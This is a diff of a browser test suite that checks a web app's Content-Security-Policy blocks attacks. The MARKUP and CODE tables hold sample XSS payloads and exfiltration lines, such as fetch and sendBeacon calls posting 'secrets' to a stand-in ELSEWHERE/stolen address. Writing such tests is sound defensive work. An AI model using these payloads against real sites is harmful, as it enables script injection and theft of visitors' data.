@@ -1,21 +1,21 @@
 import { SEEDED_MESSAGE_GROUP_UUID } from '@cruddur/config/seed';
 import type { Browser, Page } from 'playwright-core';
-import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { type ForeignOrigin, startForeignOrigin } from '../../support/foreign-origin.ts';
-import { launchBrowser } from '../support/browser.ts';
-import { message, signIn, type Visitor, visit, write } from '../support/people.ts';
-import { signUpPair } from '../support/sign-up.ts';
+import { connectBrowser } from '../support/browser.ts';
+import { conversation, message, signIn, signUp, type Visitor, visit, write } from '../support/people.ts';
+import { sharedStack } from '../support/shared-stack.ts';
 
 const THREAD = `/messages/${SEEDED_MESSAGE_GROUP_UUID}`;
 
 let browser: Browser;
+let webUrl: string;
 let elsewhere: ForeignOrigin;
 
 beforeAll(async () => {
-  [browser, elsewhere] = await Promise.all([
-    launchBrowser(),
-    startForeignOrigin(`<iframe src="${inject('webUrl')}/signin"></iframe>`),
-  ]);
+  browser = await connectBrowser();
+  ({ webUrl } = await sharedStack());
+  elsewhere = await startForeignOrigin(`<iframe src="${webUrl}/signin"></iframe>`);
 });
 
 afterAll(async () => {
@@ -24,7 +24,7 @@ afterAll(async () => {
 });
 
 describe('under its Content-Security-Policy, the page', () => {
-  it('works without being stopped once', async () => {
+  it('works without a violation', async () => {
     const andrew = await visit(browser);
     const { page, violations } = andrew;
     for (const path of ['/signup', '/confirm', '/recover', '/nowhere']) {
@@ -40,8 +40,17 @@ describe('under its Content-Security-Policy, the page', () => {
     await andrew.context.close();
   });
 
-  it('works without being stopped for two people who sign up and write to each other', async () => {
-    const [ida, olaf] = await signUpPair(browser, ['Ida Weir', 'Olaf Brandt']);
+  it('works without a violation for two people who sign up and write to each other', async () => {
+    const [ida, olaf] = [await visit(browser), await visit(browser)];
+    const password = 'Harbour-Lights-7!';
+    await Promise.all([
+      signUp(ida, { handle: 'ida', displayName: 'Ida Weir', password }),
+      signUp(olaf, { handle: 'olaf', displayName: 'Olaf Brandt', password }),
+    ]);
+    await ida.page.goto('/messages/new/olaf');
+    await write(ida, 'Hello!');
+    await conversation(olaf, 'Ida Weir').click();
+    await message(olaf, 'Hello!').waitFor();
     await write(olaf, 'See https://example.com/harbour, at “seven”');
     await message(ida, 'https://example.com/harbour').waitFor();
     expect([ida.violations, olaf.violations]).toEqual([[], []]);
@@ -49,7 +58,7 @@ describe('under its Content-Security-Policy, the page', () => {
   });
 });
 
-/** Account menu with the theme, person picker, help. */
+/** Opens the account menu with the theme, the person picker and the list of shortcuts. */
 async function openEachOverlay(page: Page): Promise<void> {
   await page.getByRole('button', { name: 'Account' }).click();
   await page.getByRole('menu').waitFor();
@@ -64,21 +73,25 @@ async function openEachOverlay(page: Page): Promise<void> {
   await page.keyboard.press('Escape');
 }
 
-/** What an attacker might get into the document, and the directive that stops it. Each would set `window.ran`. */
+/** What an attacker might inject into the document, and the directive that blocks it. Each would set `window.ran`. */
 const MARKUP: [string, string, string][] = [
   ['a script', '<script>window.ran = true</script>', 'script-src-elem'],
-  ['a script of elsewhere', '<script src="ELSEWHERE/x.js"></script>', 'script-src-elem'],
+  ['a script of another site', '<script src="ELSEWHERE/x.js"></script>', 'script-src-elem'],
   ['a script in a data URL', '<script src="data:text/javascript,window.ran=true"></script>', 'script-src-elem'],
   ['an event handler', '<img src="/none.png" onerror="window.ran = true">', 'script-src-attr'],
   ['a javascript: frame', '<iframe src="javascript:parent.ran=true"></iframe>', 'script-src-elem'],
-  ['a frame of its own making', '<iframe srcdoc="<script>parent.ran=true</script>"></iframe>', 'script-src-elem'],
+  ['a frame with its own markup', '<iframe srcdoc="<script>parent.ran=true</script>"></iframe>', 'script-src-elem'],
   ['a plug-in', '<object data="ELSEWHERE/x.swf"></object>', 'object-src'],
   ['a base for every address', '<base href="ELSEWHERE/">', 'base-uri'],
-  ['a style that looks elsewhere', '<style>body { background: url(ELSEWHERE/x.png) }</style>', 'style-src-elem'],
-  ['an image of elsewhere', '<img src="ELSEWHERE/x.png">', 'img-src'],
+  [
+    'a style that loads from another site',
+    '<style>body { background: url(ELSEWHERE/x.png) }</style>',
+    'style-src-elem',
+  ],
+  ['an image of another site', '<img src="ELSEWHERE/x.png">', 'img-src'],
 ];
 
-/** What code that runs already might try, and the directive that stops it. */
+/** What code that runs already might try, and the directive that blocks it. */
 const CODE: [string, string, string][] = [
   [
     'add a script',
@@ -86,20 +99,20 @@ const CODE: [string, string, string][] = [
     'require-trusted-types-for',
   ],
   ['write markup', 'document.body.innerHTML = "<img src=x onerror=window.ran=true>"', 'require-trusted-types-for'],
-  ['make code of text', 'window.setTimeout("window.ran = true")', 'require-trusted-types-for'],
+  ['run text as code', 'window.setTimeout("window.ran = true")', 'require-trusted-types-for'],
   [
     'follow a javascript: link',
     'a = document.createElement("a"); a.href = "javascript:window.ran=true"; document.body.append(a); a.click()',
     'script-src-elem',
   ],
   [
-    'send what it has elsewhere',
+    'send data to another site',
     'fetch("ELSEWHERE/stolen", { method: "POST", body: "secrets" }).catch(() => {})',
     'connect-src',
   ],
-  ['beacon it elsewhere', 'navigator.sendBeacon("ELSEWHERE/stolen", "secrets")', 'connect-src'],
+  ['send a beacon to another site', 'navigator.sendBeacon("ELSEWHERE/stolen", "secrets")', 'connect-src'],
   [
-    'post a form elsewhere',
+    'post a form to another site',
     'f = document.createElement("form"); f.action = "ELSEWHERE/stolen"; f.method = "post"; document.body.append(f); f.submit()',
     'form-action',
   ],
@@ -115,13 +128,13 @@ describe('under its Content-Security-Policy, an attacker', () => {
 
   const ran = () => visitor.page.evaluate(() => 'ran' in window);
 
-  async function expectStopped(directive: string): Promise<void> {
+  async function expectBlocked(directive: string): Promise<void> {
     await expect.poll(() => visitor.violations.map((violation) => violation.directive)).toContain(directive);
     expect(await ran()).toBe(false);
     expect(elsewhere.asked).toEqual([]);
   }
 
-  it.each(MARKUP)('who gets %s into the document gets nothing', async (_name, markup, directive) => {
+  it.each(MARKUP)('who injects %s into the document achieves nothing', async (_name, markup, directive) => {
     const { page } = visitor;
     const target = '**/signin';
     await page.route(target, async (route) => {
@@ -130,17 +143,17 @@ describe('under its Content-Security-Policy, an attacker', () => {
       await route.fulfill({ response, body });
     });
     visitor.violations.length = 0;
-    await page.goto('/signin');
+    await page.goto('/signin', { waitUntil: 'commit' });
     await page.unroute(target);
-    await expectStopped(directive);
+    await expectBlocked(directive);
   });
 
   it.each(CODE)('whose code would %s cannot', async (_name, code, directive) => {
     const { page } = visitor;
-    await page.goto('/signin');
-    await page.getByRole('heading', { level: 1 }).waitFor();
+    // One page for all: no attack may leave it. A blocked navigation would end at another address.
+    if (new URL(page.url()).pathname !== '/signin') await page.goto('/signin');
     visitor.violations.length = 0;
-    // A file of the page's own origin: the last thing that may run.
+    // A file of the page's own origin is the only code that may run.
     await page.route('**/attack.js', (route) =>
       route.fulfill({
         contentType: 'text/javascript',
@@ -159,7 +172,7 @@ describe('under its Content-Security-Policy, an attacker', () => {
         .createScriptURL('/attack.js');
       document.body.append(script);
     });
-    await expectStopped(directive);
+    await expectBlocked(directive);
     await page.unroute('**/attack.js');
   });
 });
@@ -172,7 +185,7 @@ describe('another site', () => {
     await page.close();
   });
 
-  it('is not told where a visitor comes from', async () => {
+  it('does not learn which page a visitor comes from', async () => {
     const { page, context } = await visit(browser);
     const referrers: (string | undefined)[] = [];
     page.on('request', async (request) => void referrers.push(request.headers().referer));
@@ -183,7 +196,7 @@ describe('another site', () => {
     await page.waitForURL(`${elsewhere.url}/`);
     expect(elsewhere.asked[0]?.headers.referer).toBeUndefined();
     expect(referrers.length).toBeGreaterThan(5);
-    expect(referrers.filter((referrer) => referrer?.startsWith(inject('webUrl')))).toEqual([]);
+    expect(referrers.filter((referrer) => referrer?.startsWith(webUrl))).toEqual([]);
     await context.close();
   });
 });
